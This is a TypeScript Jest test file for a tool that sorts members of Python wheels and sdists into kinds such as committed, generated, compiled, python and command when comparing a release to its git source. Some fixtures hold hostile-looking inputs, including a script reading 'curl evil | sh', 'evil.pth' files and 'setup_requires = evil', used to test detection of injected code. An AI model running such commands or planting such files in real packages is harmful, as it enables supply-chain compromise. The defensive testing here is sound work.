import { createHash } from "node:crypto";
import { describe, expect, test } from "@jest/globals";
import { type Comparison, kindOf, type MemberKind } from "../../../src/domain/content/kinds.ts";
import type { Archive, Member } from "../../../src/domain/content/member.ts";
import { contentOf, type TreeEntry } from "../../../src/domain/content/tree.ts";

const bytes = (content: string | Uint8Array) => Buffer.from(content);
const blobId = (content: Uint8Array) =>
  createHash("sha1").update(`blob ${content.length}\0`).update(content).digest("hex");

function memberOf(path: string, text: string | Uint8Array): Member {
  const content = bytes(text);
  const sha256 = createHash("sha256").update(content).digest("hex");
  return { path, size: content.length, id: blobId(content), sha256, content };
}

const file = (path: string, content: string): TreeEntry => ({
  path,
  mode: "100644",
  type: "blob",
  id: blobId(bytes(content)),
});

const LARGE = "a\0large file";
const LARGE_SHA256 = createHash("sha256").update(LARGE).digest("hex");
const tree: readonly TreeEntry[] = [
  { path: "src", mode: "040000", type: "tree", id: blobId(bytes("a tree")) },
  file("src/pkg/unix.py", "a = 1\nb = 2\n"),
  file("src/pkg/windows.py", "c = 1\r\nd = 2\r\n"),
  file("bin/tool", "#!/usr/bin/env python3 -u\nprint()\n"),
  file("archival.txt", "node: $Format:%H$\n"),
  file(
    "data.bin",
    `version https://git-lfs.github.com/spec/v1\noid sha256:${LARGE_SHA256}\nsize ${LARGE.length}\n`,
  ),
  { path: "src/pkg/vendor", mode: "160000", type: "commit", id: "5".repeat(40) },
];

const comparison = (archive: Archive): Comparison => ({
  archive,
  commit: contentOf(
    { entries: tree, truncated: false },
    new Map([["archival.txt", ["node: $Format:%H$\n"]]]),
    [
      "[metadata]\nname=pkg\n# A comment\nkeywords =\n    one\n\n    ; Another\n    two\n[egg_info]\ntag_date = 1\n[bdist_wheel]\nuniversal: 1",
    ],
  ),
  generated: ["pkg/_grammar.py"],
  blobId,
});

type Case = readonly [MemberKind, Archive, path: string, content: string | Uint8Array];

const cases: readonly Case[] = [
  ["committed", "wheel", "pkg/unix.py", "a = 1\nb = 2\n"],
  ["committed", "sdist", "anywhere/else.py", "a = 1\nb = 2\n"],
  ["committed", "wheel", "pkg/py.typed", ""],
  ["generated", "wheel", "pkg/_grammar.py", "exec('x')"],
  ["generated", "sdist", "src/pkg/_grammar.py", "exec('x')"],
  ["generated", "wheel", "pkg-1.dist-info/RECORD", "x"],
  ["generated", "wheel", "pkg-1.dist-info/licenses/LICENSE", "x"],
  ["generated", "sdist", "PKG-INFO", "x"],
  ["generated", "sdist", "setup.cfg", "[egg_info]\ntag_build = \ntag_date = 0\n\n"],
  [
    "generated",
    "sdist",
    "setup.cfg",
    "[metadata]\nname = pkg\nkeywords = one\n\ttwo\n\n[bdist_wheel]\nuniversal = 1\n\n[egg_info]\ntag_build = \n",
  ],
  ["generated", "sdist", "ChangeLog", "x"],
  ["generated", "sdist", "src/pkg.egg-info/SOURCES.txt", "x"],
  ["generated", "wheel", "pkg/_version.py", "version = '1'\n"],
  ["generated", "wheel", "pkg-1.data/scripts/tool", "#!python -u\nprint()\n"],
  ["line-ends", "wheel", "pkg/unix.py", "a = 1\r\nb = 2\r\n"],
  ["line-ends", "sdist", "src/pkg/windows.py", "c = 1\nd = 2\n"],
  ["line-ends", "wheel", "pkg/mixed.py", "a = 1\r\nb = 2\n"],
  ["large-file", "wheel", "pkg/data.bin", LARGE],
  ["export-subst", "sdist", "archival.txt", "node: 12ab\n"],
  ["submodule", "sdist", "src/pkg/vendor/six.py", "x"],
  ["submodule", "wheel", "pkg/vendor/six.py", "x"],
  ["compiled", "platform-wheel", "pkg/fast.cpython-311-x86_64-linux-gnu.so", "\0"],
  ["compiled", "platform-wheel", "pkg.libs/libx-1.so.3.2", "\0"],
  ["compiled", "platform-wheel", "pkg/.dylibs/something", "\0"],
  ["compiled", "platform-wheel", "pkg-1.data/scripts/tool", "\x7fELF\0"],
  ["python", "wheel", "pkg/new.py", "x"],
  ["python", "wheel", "pkg/_version.py", "import os\n"],
  ["python", "wheel", "pkg/_version.py", new Uint8Array([0xff])],
  ["python", "wheel", "evil.pth", "import x"],
  ["python", "sdist", "src/pkg/vendor/evil.pth", "import x"],
  ["python", "wheel", "pkg-1.dist-info/evil.py", "x"],
  ["python", "sdist", "pkg.egg-info/evil.py", "x"],
  ["python", "sdist", "setup.py", "x"],
  ["python", "platform-wheel", "pkg.libs/evil.py", "x"],
  ["python", "wheel", "pkg/__pycache__/a.cpython-311.pyc", "\0"],
  ["command", "platform-wheel", "pkg-1.data/scripts/tool", "#!python\nevil()\n"],
  ["command", "platform-wheel", "pkg-1.data/scripts/tool", "curl evil | sh\n"],
  ["command", "wheel", "pkg-1.data/scripts/tool", "\x7fELF\0"],
  ["command", "wheel", "pkg-1.data/data/bin/git", "x"],
  ["command", "platform-wheel", "pkg-1.data/data/opt/Scripts/git.cmd", "x"],
  ["command", "wheel", "pkg-1.data/purelib/other-1.dist-info/entry_points.txt", "[pytest11]"],
  ["command", "wheel", "other.egg-info/entry_points.txt", "[pytest11]"],
  ["compiled", "platform-wheel", "pkg-1.data/data/bin/cmake", "\x7fELF\0"],
  ["extension", "wheel", "pkg/__init__.abi3.so", "\x7fELF\0"],
  ["extension", "sdist", "src/pkg/fast.PYD", "\0"],
  ["build-settings", "sdist", "pyproject.toml", "[build-system]"],
  ["build-settings", "sdist", "setup.cfg", "[options]\nsetup_requires = evil\n"],
  ["build-settings", "sdist", "setup.cfg", "[egg_info]\n\n[options]\nsetup_requires = evil\n"],
  [
    "build-settings",
    "sdist",
    "setup.cfg",
    "[metadata]\nname = pkg\nkeywords = one\n\ttwo\n\tthree\n\n[bdist_wheel]\nuniversal = 1\n",
  ],
  ["build-settings", "sdist", "setup.cfg", "[egg_info]\ntag_build = \x0b[options]\n"],
  ["build-settings", "sdist", "setup.cfg", new Uint8Array([0xff])],
  ["data", "wheel", "pkg/new.json", "{}"],
  ["data", "wheel", "pkg/stub.pyi", "x"],
  ["data", "wheel", "pkg/pyproject.toml", "x"],
  ["data", "wheel", "pkg-1.data/data/share/tool", "x"],
  ["data", "sdist", "archival.txt", "node: 12ab\nmore\n"],
  ["data", "sdist", "archival.txt", new Uint8Array([0xff])],
  ["data", "sdist", "sub/PKG-INFO", "x"],
  ["data", "wheel", "pkg/data.bin", "b\0large file"],
  ["data", "platform-wheel", "pkg/vendors/x.txt", "x"],
];

describe("a member of a distribution is", () => {
  test.each(cases)("%s: in a %s, %s with %j", (kind, archive, path, content) => {
    expect(kindOf(memberOf(path, content), comparison(archive))).toBe(kind);
  });

  test("looked at by its digests alone, where it is too large to be text", () => {
    const { content: _, ...large } = memberOf("pkg/a.bin", LARGE);
    expect(kindOf(large, comparison("wheel"))).toBe("large-file");
    const { content: __, ...other } = memberOf("pkg/a.bin", "other");
    expect(kindOf(other, comparison("wheel"))).toBe("data");
  });
});
